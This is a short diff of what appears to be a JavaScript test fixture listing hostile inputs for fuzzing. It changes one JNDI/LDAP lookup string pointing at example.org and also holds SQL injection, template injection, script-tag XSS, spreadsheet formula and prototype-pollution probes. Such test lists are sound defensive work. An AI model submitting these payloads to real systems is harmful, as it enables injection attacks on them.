@@ -18,7 +18,7 @@ const hostileTexts = [
   ...['__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '-0', '1e999', '0x10', '2180 ', '٢١٨٠'],
   ...[
     "'; DROP TABLE casework; --",
-    '${jndi:ldap://example.org}',
+    '#{jndi:ldap://example.org}',
     '{{7*7}}',
     '<script>alert(1)</script>',
     '=1+1',
